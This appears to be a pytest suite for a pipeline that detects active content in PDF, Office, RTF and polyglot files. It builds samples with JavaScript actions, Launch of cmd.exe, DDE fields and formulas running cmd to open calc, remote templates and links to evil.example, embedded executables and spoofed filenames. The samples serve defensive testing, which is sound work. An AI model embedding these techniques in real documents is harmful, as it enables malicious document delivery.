"""Active content, class by class: every way a PDF, an Office file or a name can run something.

Built after an attack on the first version: encrypted PDFs, object streams under
any filter, Office parts found by relationship rather than by name, polyglots
named to open in a browser, and clean documents that merely mention "/JS".
"""

import io
import random
import zipfile
from decimal import Decimal

import pikepdf
import pytest
from fpdf import FPDF
from PIL import Image

from pipeline.active import in_ooxml, in_pdf
from pipeline.archive import Member
from pipeline.extract import extract
from pipeline.intake import take_in
from tests import builders as b
from tests.test_active_content import PE, attached_names, flags, region_mail

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
CFB = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512  # an OLE compound file's header


@pytest.fixture(scope="module")
def docs(renderer, resources):
    entity = b.Entity()
    rendered = b.rendered(renderer, resources, entity, "2021-045-lot2")
    return {
        "convention": b.convention_pdf(rendered["convention"]),
        "docx": rendered["convention"],
        "annex": rendered["annex"],
        "order": b.order_pdf(entity, Decimal("1000")),
        "entity": entity,
    }


# -- PDF ---------------------------------------------------------------------------------------


def _save(doc: pikepdf.Pdf, **options) -> bytes:
    out = io.BytesIO()
    doc.save(out, **options)
    return out.getvalue()


def _with(pdf: bytes, change, **options) -> bytes:
    doc = pikepdf.open(io.BytesIO(pdf))
    change(doc)
    return _save(doc, **options)


def _js(doc):
    return doc.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))


def _open_action(kind: str, **keys):
    def change(doc):
        doc.Root.OpenAction = doc.make_indirect(pikepdf.Dictionary(S=pikepdf.Name("/" + kind), **keys))

    return change


def _field_aa(doc):
    field = pikepdf.Dictionary(FT=pikepdf.Name.Tx, T="montant", AA=pikepdf.Dictionary(K=_js(doc)))
    doc.Root.AcroForm = pikepdf.Dictionary(Fields=[doc.make_indirect(field)])


def _outline(doc):
    item = doc.make_indirect(pikepdf.Dictionary(Title="Ouvrir", A=_js(doc)))
    doc.Root.Outlines = doc.make_indirect(pikepdf.Dictionary(First=item, Last=item, Count=1))


def _xfa(doc):
    xfa = doc.make_stream(b"<xdp:xdp><template><script>app.alert(1)</script></template></xdp:xdp>")
    doc.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=xfa)


def _attachment_annotation(doc):
    """A FileAttachment whose file stream has no /Type /EmbeddedFile (the key is optional)."""
    spec = pikepdf.Dictionary(
        Type=pikepdf.Name.Filespec, F="x.exe", EF=pikepdf.Dictionary(F=doc.make_stream(PE))
    )
    annot = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[0, 0, 20, 20], FS=spec
    )
    doc.pages[0].Annots = doc.make_indirect([doc.make_indirect(annot)])


ENCRYPTIONS = {"AES-256": 6, "AES-128": 4, "RC4": 3}


def _encrypted(revision: int):
    def save(pdf: bytes) -> bytes:
        return _with(
            pdf,
            _open_action("JavaScript", JS="app.alert(1)"),
            object_stream_mode=pikepdf.ObjectStreamMode.generate,
            encryption=pikepdf.Encryption(
                user="", owner="resah", R=revision, metadata=revision >= 4, aes=revision >= 4
            ),
        )

    return save


PDF_CLASS = {
    "field keystroke script": (lambda p: _with(p, _field_aa), "javascript"),
    "outline item script": (lambda p: _with(p, _outline), "javascript"),
    "XFA form": (lambda p: _with(p, _xfa), "xfa"),
    "file attachment without /Type": (lambda p: _with(p, _attachment_annotation), "embedded_file"),
    "GoToR to a share": (
        lambda p: _with(p, _open_action("GoToR", F="\\\\evil\\share\\x.pdf")),
        "external_action",
    ),
    "SubmitForm": (
        lambda p: _with(p, _open_action("SubmitForm", F="https://evil.example/")),
        "external_action",
    ),
    "ImportData": (lambda p: _with(p, _open_action("ImportData", F="x.fdf")), "external_action"),
    "GoToE": (lambda p: _with(p, _open_action("GoToE", D="page")), "external_action"),
    **{f"encrypted {name}, object streams": (_encrypted(r), "javascript") for name, r in ENCRYPTIONS.items()},
}


@pytest.mark.parametrize("case", PDF_CLASS)
def test_active_content_anywhere_in_a_pdf_is_found(docs, case):
    build, code = PDF_CLASS[case]
    data = build(docs["order"])
    assert code in extract(Member("EJ.pdf", data)).active


@pytest.mark.parametrize("filter_name", b.OBJSTM_FILTERS)
@pytest.mark.parametrize("eol", [b"\n", b"\r", b"\r\n"], ids=["LF", "CR", "CRLF"])
def test_an_action_in_an_object_stream_is_found_whatever_its_filter_and_layout(filter_name, eol):
    data = b.objstm_pdf(filter_name, b"<< /S /Launch /F (cmd.exe) >>", eol, padding=1500)
    assert extract(Member("EJ.pdf", data)).active == ("launch",)


@pytest.mark.slow  # a PDF of 60,000 objects
def test_a_large_harmless_object_stream_first_does_not_hide_a_later_script():
    doc = pikepdf.new()
    doc.add_blank_page()
    filler = [doc.make_indirect(pikepdf.Dictionary(N=i, T="x" * 200)) for i in range(60_000)]
    doc.Root.Filler = doc.make_indirect(pikepdf.Array(filler))
    doc.Root.OpenAction = _js(doc)
    data = _save(doc, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert "javascript" in in_pdf(data)


@pytest.mark.slow  # a PDF of 210,000 objects
def test_a_pdf_too_large_to_look_at_whole_is_unchecked_never_clean():
    doc = pikepdf.new()
    doc.add_blank_page()
    doc.Root.Filler = doc.make_indirect(
        pikepdf.Array([doc.make_indirect(pikepdf.Dictionary(N=i)) for i in range(210_000)])
    )
    assert in_pdf(_save(doc, object_stream_mode=pikepdf.ObjectStreamMode.generate)) == ("unchecked",)


def _noise_scan(seed: int) -> bytes:
    rng = random.Random(seed)
    image = Image.frombytes("L", (900, 1200), bytes(rng.getrandbits(8) for _ in range(900 * 1200)))
    buf = io.BytesIO()
    image.save(buf, format="PNG")
    pdf = FPDF()
    pdf.add_page()
    pdf.image(buf, x=0, y=0, w=210)
    return bytes(pdf.output())


def _uncompressed_text(text: str) -> bytes:
    pdf = FPDF()
    pdf.set_compression(False)
    pdf.add_page()
    pdf.set_font("Helvetica", size=12)
    pdf.cell(0, 10, text)
    return bytes(pdf.output())


CLEAN = {
    "title mentioning /JS": lambda d: _with(
        d["order"], lambda doc: setattr(doc.docinfo, "Title", "Dossier 2024/JS/12")
    ),
    "text mentioning /Launch": lambda d: _uncompressed_text("Campagne /Launch 2024, ref. 2024/JS/12"),
    "link to /JS/": lambda d: _with(d["order"], _open_action("URI", URI="https://exemple.fr/JS/guide.html")),
    "signed convention": lambda d: d["convention"],
    **{f"grainy scan {n}": (lambda d, n=n: _noise_scan(n)) for n in range(3)},
}


@pytest.mark.parametrize("case", CLEAN)
def test_a_clean_pdf_is_not_flagged_for_what_its_text_or_pixels_say(docs, case):
    assert in_pdf(CLEAN[case](docs)) == ()


# -- Office ------------------------------------------------------------------------------------


def repack(package: bytes, parts=(), types=(), rels=(), edit=None) -> bytes:
    """The package with parts added, content types overridden, relationships added, XML edited."""
    with zipfile.ZipFile(io.BytesIO(package)) as zf:
        members = {i.filename: zf.read(i) for i in zf.infolist()}
    members.update(parts)
    for part, ctype in types:
        override = f'<Override PartName="/{part}" ContentType="{ctype}"/>'.encode()
        members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
            b"</Types>", override + b"</Types>"
        )
    empty = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    for rel_file, rel in rels:
        members[rel_file] = members.get(rel_file, empty).replace(
            b"</Relationships>", rel.encode() + b"</Relationships>"
        )
    for part, (old, new) in edit or {}:
        members[part] = members[part].replace(old, new, 1)
    return b.zip_of(list(members.items()))


DOC_RELS, BOOK_RELS = "word/_rels/document.xml.rels", "xl/_rels/workbook.xml.rels"
VBA_TYPE, VBA_REL = (
    "application/vnd.ms-office.vbaProject",
    "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
)
DDE_FIELD = b'<w:body><w:p><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" </w:instrText></w:r></w:p>'

WORD_CLASS = {
    "VBA under another name": (
        dict(parts={"word/macros.bin": CFB}, types=[("word/macros.bin", VBA_TYPE)],
             rels=[(DOC_RELS, f'<Relationship Id="rV" Type="{VBA_REL}" Target="macros.bin"/>')]), "macro"),
    "remote template": (
        dict(rels=[("word/_rels/settings.xml.rels", f'<Relationship Id="rT" Type="{R}/attachedTemplate" '
                    'Target="https://evil.example/modele.dotm" TargetMode="External"/>')]), "remote_template"),
    "DDEAUTO field": (dict(edit=[("word/document.xml", (b"<w:body>", DDE_FIELD))]), "dde"),
    "OLE object stored as a picture": (
        dict(parts={"word/media/image9.png": CFB},
             types=[("word/media/image9.png", "application/vnd.openxmlformats-officedocument.oleObject")],
             rels=[(DOC_RELS, f'<Relationship Id="rO" Type="{R}/oleObject" Target="media/image9.png"/>')]), "ole_object"),
    "OLE file named .docx": (dict(parts={"word/embeddings/Document.docx": CFB}), "ole_object"),
    "ActiveX under controls/": (dict(parts={"word/controls/ctl1.bin": CFB},
                                     types=[("word/controls/ctl1.bin", "application/vnd.ms-office.activeX")]), "activex"),
    "external OLE link": (dict(rels=[(DOC_RELS, f'<Relationship Id="rL" Type="{R}/oleObject" '
                                      'Target="file://evil.example/share/x.sct" TargetMode="External"/>')]), "ole_object"),
    "program inside the package": (dict(parts={"word/media/Facture.pdf.exe": PE}), "executable"),
}  # fmt: skip
EXCEL_CLASS = {
    "VBA under another name": (
        dict(parts={"xl/code.bin": CFB}, types=[("xl/code.bin", VBA_TYPE)],
             rels=[(BOOK_RELS, f'<Relationship Id="rV" Type="{VBA_REL}" Target="code.bin"/>')]), "macro"),
    "Excel 4.0 macro sheet": (
        dict(parts={"xl/feuille.xml": b"<xm:macrosheet/>"},
             types=[("xl/feuille.xml", "application/vnd.ms-excel.macrosheet+xml")]), "macro"),
    "DDE formula": (dict(edit=[("xl/worksheets/sheet1.xml", (b"</sheetData>",
                                 b"<row r=\"900\"><c r=\"A900\"><f>cmd|' /C calc'!A0</f><v>0</v></c></row></sheetData>"))]), "dde"),
}  # fmt: skip


@pytest.mark.parametrize("case", WORD_CLASS)
def test_a_word_file_that_runs_or_fetches_something_is_flagged(docs, case):
    change, code = WORD_CLASS[case]
    assert code in in_ooxml(repack(docs["docx"], **change))


@pytest.mark.parametrize("case", EXCEL_CLASS)
def test_an_excel_annex_that_runs_something_is_flagged_and_still_read(intake_ctx, drop, docs, case):
    change, code = EXCEL_CLASS[case]
    annex = repack(docs["annex"], **change)
    report = take_in(drop(b.zip_of([("Annexe.xlsx", annex), ("EJ.pdf", docs["order"])])), intake_ctx)
    assert code in flags(report)["Annexe.xlsx"]
    assert {d.name: d.role for d in report.documents}["Annexe.xlsx"] == "annex"


def test_clean_office_files_of_csac_and_with_an_embedded_chart_are_not_flagged(docs):
    chart_book = b.zip_of([("[Content_Types].xml", b"<Types/>")])
    with_chart = repack(docs["docx"], parts={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": chart_book})
    assert (in_ooxml(docs["docx"]), in_ooxml(docs["annex"]), in_ooxml(with_chart)) == ((), (), ())


# -- names that run --------------------------------------------------------------------------------

POLYGLOTS = {
    "a PDF named .html": ("EJ.html", lambda d: b"<html><script>location='https://evil.example'</script><!--" + d["order"]),
    "an image named .html": ("Scan.html", lambda d: b"\xff\xd8\xff\xe0\0\x10JFIF\0<html><script>x()</script>"),
    "an image named .url": ("Scan.url", lambda d: b"\xff\xd8\xff\xe0\0\x10JFIF\0[InternetShortcut]\nURL=file://x"),
    "a Word file named .zip, programs inside": (
        "Pieces jointes.zip", lambda d: repack(d["docx"], parts={"Facture.exe": PE, "Lisez-moi.pdf.exe": PE})),
    "a PDF with a ZIP appended, named .zip": ("Pieces.zip", lambda d: d["order"] + b.zip_of([("x.exe", PE)])),
}  # fmt: skip


@pytest.mark.parametrize("case", POLYGLOTS)
def test_a_file_whose_name_would_open_it_otherwise_than_as_a_document_is_held_back(
    intake_ctx, drop, docs, case
):
    name, build = POLYGLOTS[case]
    parts = [
        ("Convention.pdf", docs["convention"]),
        ("Annexe.xlsx", docs["annex"]),
        ("EJ.pdf", docs["order"]),
    ]
    report = take_in(drop(b.zip_of([*parts, (name, build(docs))]), form=b.form(docs["entity"])), intake_ctx)
    assert name in [h.name for h in report.withheld]
    assert set(attached_names(region_mail(intake_ctx))) == {n for n, _ in parts}


SCRIPT_NAMES = ["page.html", "dessin.svg", "raccourci.url", "aide.chm", "setup.cab", "console.msc", "outil.py",
                "FACTURE.PDF.EXE", "facture\u202efdp.exe", "facture.exe\u200b", "note.one", "module.xlam"]  # fmt: skip


@pytest.mark.parametrize("name", SCRIPT_NAMES)
def test_a_name_that_windows_or_a_browser_would_run_is_a_program(name):
    assert extract(Member(name, b"<script>x()</script>")).active == ("executable",)


def test_an_rtf_with_an_ole_object_is_flagged():
    rtf = b"{\\rtf1\\ansi{\\object\\objemb{\\*\\objdata 01050000}}}"
    assert extract(Member("courrier.rtf", rtf)).active == ("ole_object",)
